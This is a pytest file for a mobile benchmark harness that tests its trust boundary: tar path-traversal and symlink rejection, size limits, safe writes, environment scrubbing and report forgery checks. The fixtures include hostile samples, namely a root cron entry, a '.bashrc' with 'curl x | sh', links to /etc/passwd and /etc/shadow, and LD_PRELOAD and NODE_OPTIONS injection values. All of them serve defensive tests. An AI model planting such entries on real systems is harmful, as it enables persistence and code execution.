"""The trust boundary's pure parts (issue 7): archive names and sizes, globs on the host, safe writes,
the plan the harness runs, the scrubbed environment and the report-vs-runner cross-check."""

from __future__ import annotations

import glob
import io
import os
import tarfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_mobilebench.plan import TestPlan
from pytest_mobilebench.files import write_under
from pytest_mobilebench.runtime.channel import (
    MAX_FILE_BYTES,
    ChannelError,
    archived_file,
    glob_regex,
    glob_root,
    read_tar_files,
    safe_relpath,
)
from pytest_mobilebench.runtime.inbox import (
    input_archive,
    patch_input,
    root_files_archive,
)
from pytest_mobilebench.states import InfraKind, TestState
from pytest_mobilebench.trust import (
    JEST_BIN,
    cross_check,
    direct_runner,
    harden_plan,
    relocate_results,
    scrubbed_environment,
)


def _tar(*members: tuple[str, bytes | None, bytes]) -> bytes:
    """``(name, type, data)``; type ``None`` = regular file, else a tarfile type byte (link target in data)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, kind, data in members:
            info = tarfile.TarInfo(name)
            if kind is None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                info.type = kind
                info.linkname = data.decode()
                tar.addfile(info)
    return buffer.getvalue()


def test_archive_names_that_leave_the_destination_are_refused() -> None:
    data = _tar(
        ("ok/report.xml", None, b"<ok/>"),
        ("/etc/cron.d/evil", None, b"* * * * * root sh"),
        ("../../home/user/.bashrc", None, b"curl x | sh"),
        ("ok/../../escape", None, b"x"),
        ("link", tarfile.SYMTYPE, b"/etc/passwd"),
        ("hard", tarfile.LNKTYPE, b"ok/report.xml"),
        ("fifo", tarfile.FIFOTYPE, b""),
    )
    found, rejected = read_tar_files([data[:1000], data[1000:]])
    assert found == {"ok/report.xml": b"<ok/>"}
    assert {r.name for r in rejected} == {
        "/etc/cron.d/evil",
        "../../home/user/.bashrc",
        "ok/../../escape",
        "link",
        "hard",
        "fifo",
    }
    assert any("absolute" in r.why for r in rejected) and any("'..'" in r.why for r in rejected)


def test_archive_sizes_are_bounded() -> None:
    big = _tar(("big.json", None, b"x" * 5000), ("small.json", None, b"{}"))
    found, rejected = read_tar_files([big], max_file_bytes=1000)
    assert found == {"small.json": b"{}"} and rejected[0].name == "big.json"
    with pytest.raises(ChannelError, match="exceeds"):
        read_tar_files([_tar(("huge.json", None, b"x" * 200_000))], max_total_bytes=1000)
    with pytest.raises(ChannelError, match="not a tar"):
        read_tar_files([b"this is no tar stream" * 40])


def test_the_archive_of_one_file_gives_that_file_and_refuses_the_rest() -> None:
    path = "/var/tmp/r/report.json"
    assert archived_file([_tar(("report.json", None, b"{}"))], 2, path) == (b"{}", [])
    data, rejected = archived_file([_tar(("report.json", None, b"{}"), ("other.json", None, b"x"))], 3, path)
    assert data == b"{}" and [(r.name, "unexpected" in r.why) for r in rejected] == [("other.json", True)]
    assert archived_file([_tar(("report.json", tarfile.SYMTYPE, b"/etc/shadow"))], 0, path)[0] is None
    data, rejected = archived_file(iter(()), MAX_FILE_BYTES + 1, path)  # the stat's size: never read
    assert data is None and rejected[0].name == path and "over" in rejected[0].why
    data, rejected = archived_file([b"no tar" * 200], 10, path)
    assert data is None and "not a tar" in rejected[0].why


@pytest.mark.parametrize("name", ["", "/abs", "a/../../b", "..", "a\\b", "a\x00b", ".", "./"])
def test_safe_relpath_refuses(name: str) -> None:
    with pytest.raises(ChannelError):
        safe_relpath(name)


@given(st.lists(st.sampled_from(["a", "b", ".", "..", "", "c.xml"]), min_size=1, max_size=6))
def test_safe_relpath_never_leaves_its_folder(parts: list[str]) -> None:
    name = "/".join(parts)
    try:
        safe = safe_relpath(name)
    except ChannelError:
        return
    resolved = os.path.normpath(os.path.join("/dest", safe))
    assert resolved.startswith("/dest/") and ".." not in safe.split("/")


@pytest.mark.parametrize(
    "pattern",
    ["**/build/test-results/**/TEST-*.xml", ".mobilebench/jest-results.json", "a/[ab]?.txt", "**/*.json", "a/*"],
)
def test_host_glob_matches_like_python_glob(tmp_path: Path, pattern: str) -> None:
    files = [
        "build/test-results/test/TEST-a.xml",
        "app/build/test-results/x/y/TEST-b.xml",
        ".hidden/build/test-results/TEST-c.xml",
        "build/test-results/TEST-d.txt",
        ".mobilebench/jest-results.json",
        "x/.mobilebench/jest-results.json",
        "a/a1.txt",
        "a/c1.txt",
        "a/.dot",
        "r.json",
    ]
    for rel in files:
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x")
    expected = {Path(p).relative_to(tmp_path).as_posix() for p in glob.glob(str(tmp_path / pattern), recursive=True)}
    regex = glob_regex(pattern)
    assert {f for f in files if regex.match(f)} == {e for e in expected if e in files}
    assert (
        glob_root("build/test-results/**/x") == "build/test-results" and glob_root("/var/tmp/r/j.json") == "/var/tmp/r"
    )


def test_write_under_refuses_to_leave_the_evidence(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    assert write_under(evidence, "a/b.xml", b"ok").read_bytes() == b"ok"
    (evidence / "out").symlink_to(tmp_path)
    for name in ("../x", "/etc/x", "out/escaped", "a/../../y"):
        with pytest.raises(ValueError, match="refusing"):
            write_under(evidence, name, b"no")
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "x").exists()


def test_the_harness_plan_moves_its_results_and_calls_jest_directly() -> None:
    plan = TestPlan(
        "mkdir -p .mobilebench && npx jest --ci --json --outputFile=.mobilebench/jest-results.json "
        "--runTestsByPath a.test.js",
        (".mobilebench/jest-results.json",),
        "jest",
    )
    hardened = harden_plan(plan, "/var/tmp/mb-results-0123")
    assert hardened.command == (
        f"mkdir -p /var/tmp/mb-results-0123/.mobilebench && {JEST_BIN} --ci --json "
        "--outputFile=/var/tmp/mb-results-0123/.mobilebench/jest-results.json --runTestsByPath a.test.js"
    )
    assert hardened.result_globs == ("/var/tmp/mb-results-0123/.mobilebench/jest-results.json",)
    gradle = TestPlan("./gradlew :app:testDebugUnitTest", ("**/build/test-results/**/TEST-*.xml",), "junit")
    assert relocate_results(gradle, "/r") == gradle  # not named in the command: emptied before the run instead
    assert direct_runner("yarn jest a; pnpm exec jest b || npx jestx") == f"{JEST_BIN} a; {JEST_BIN} b || npx jestx"
    with pytest.raises(ValueError, match="absolute"):
        relocate_results(plan, "relative")


def test_scrubbed_environment_drops_runner_start_up_variables() -> None:
    env = scrubbed_environment(
        {
            "PATH": "/bin",
            "NODE_OPTIONS": "--require /x.js",
            "npm_config_node_options": "--require y",
            "NPM_CONFIG_USERCONFIG": "/u",
            "JAVA_TOOL_OPTIONS": "-javaagent:a.jar",
            "GRADLE_OPTS": "-Dx",
            "ORG_GRADLE_PROJECT_x": "1",
            "LD_PRELOAD": "/l.so",
            "HOME": "/h",
        }
    )
    assert env == {"PATH": "/bin", "HOME": "/h", "CI": "true"}


P, F = TestState.PASS, TestState.FAIL


@pytest.mark.parametrize(
    ("exit_code", "tests", "console", "disagrees"),
    [
        (0, {"a": P, "b": P}, (2, 0), False),
        (1, {"a": P, "b": F}, (1, 1), False),
        (1, {"a": P, "b": P}, (0, 2), True),  # rewritten report: console saw failures
        (1, {"a": P, "b": P}, (1, 1), True),
        (0, {"a": P, "b": F}, None, True),  # jest exits 0 only without failures
        (1, {"a": P}, None, True),  # all passed, jest failed, no summary to explain it
        (1, {"a": P}, (1, 0), False),  # e.g. a coverage threshold: the console agrees with the report
        (None, {"a": P}, (0, 1), False),  # timeout: nothing to compare
        (1, {"a": P}, (2, 0), False),  # two same-named tests merged by the parser: no forgery
    ],
)
def test_cross_check(
    exit_code: int | None, tests: dict[str, TestState], console: tuple[int, int] | None, disagrees: bool
) -> None:
    why = cross_check("jest", exit_code, tests, console)
    assert (why is not None) is disagrees
    if why and console:
        assert f"{console[0]} passed / {console[1]} failed" in why


def test_infra_kinds_are_plain_strings() -> None:
    assert InfraKind.CONTAINER_DIED == "container_died" and InfraKind("disk_full") is InfraKind.DISK_FULL
    from pytest_mobilebench.runtime.base import InfraError

    assert InfraError(InfraKind.OOM_KILLED, "x").kind == "oom_killed"


def test_what_the_harness_copies_in_is_roots_with_the_modes_it_names() -> None:
    name, data = patch_input("--- a\n+++ b", "test_patch")
    assert (name, data) == ("test_patch.diff", b"--- a\n+++ b\n")
    with tarfile.open(
        fileobj=io.BytesIO(input_archive({"mobilebench-x.diff": b"1", "mobilebench-y.diff": b"22"}))
    ) as tar:
        members = {m.name: (m.uid, m.gid, m.mode, tar.extractfile(m).read()) for m in tar.getmembers()}  # type: ignore[union-attr]
    assert members == {"mobilebench-x.diff": (0, 0, 0o644, b"1"), "mobilebench-y.diff": (0, 0, 0o644, b"22")}
    with tarfile.open(
        fileobj=io.BytesIO(root_files_archive({"/var/tmp/c/key": b"k", "/testbed/t.js": b"t"}, private="/var/tmp/c"))
    ) as tar:
        modes = {m.name: (m.isdir(), m.mode, m.uid) for m in tar.getmembers()}
    assert modes == {
        "var/tmp/c": (True, 0o700, 0),
        "var/tmp/c/key": (False, 0o600, 0),
        "testbed/t.js": (False, 0o644, 0),
    }
